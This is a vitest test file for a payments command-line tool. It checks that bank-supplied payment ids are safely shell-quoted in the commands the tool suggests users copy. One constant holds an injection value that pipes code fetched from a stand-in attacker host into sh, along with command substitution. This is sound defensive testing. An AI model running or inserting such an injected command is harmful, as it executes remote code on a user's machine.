import { describe, expect, it } from 'vitest';
import { nextCommands } from '../../src/payments/view.ts';
import { hintOfReading } from '../../src/session/hints.ts';
import { oneHome } from '../support/one-home.ts';

const { json } = oneHome();

const HOSTILE = "x; curl evil.example | sh '$(id)'";
const QUOTED = "'x; curl evil.example | sh '\\''$(id)'\\'''";

describe('an id in a command to copy [S10-pasted-id]', () => {
  it('is one word where it comes from the bank', () => {
    const _links = { scaRedirect: { href: 'https://bank.example/sca' } };
    const _meta = { requestId: 'r', status: 201, durationMs: 1, profile: 'p' };
    const created = { paymentId: HOSTILE, transactionStatus: 'RCVD', _links, _meta };
    expect(nextCommands('domestic', created as unknown as Parameters<typeof nextCommands>[1])).toEqual([
      `sca approve ${QUOTED}`,
      'sandbox batch run',
      `status ${QUOTED}`,
    ]);
    const reference = { service: 'payments', product: 'p', paymentId: 'kQ3n_V0-b' } as const;
    expect(hintOfReading([{ code: 'RESOURCE_UNKNOWN', category: 'ERROR' }], reference, true)).toContain(
      '\npsd2 sca approve kQ3n_V0-b',
    );
  });

  it.each([
    [['status', HOSTILE], `psd2 sca approve ${QUOTED}`],
    [['sandbox', 'transactions', 'get', '99901067291', HOSTILE], 'psd2 sandbox transactions list'],
    [['sandbox', 'transactions', 'list', HOSTILE], 'psd2 sandbox account list'],
  ])('is one word in what is said of it: %j', async (line, command) => {
    const { error } = (await json(line)).value;
    expect(error.hint).toContain(command);
    expect(error.hint.split('\n').filter((one: string) => one.includes(` ${HOSTILE}`))).toEqual([]);
  });
});
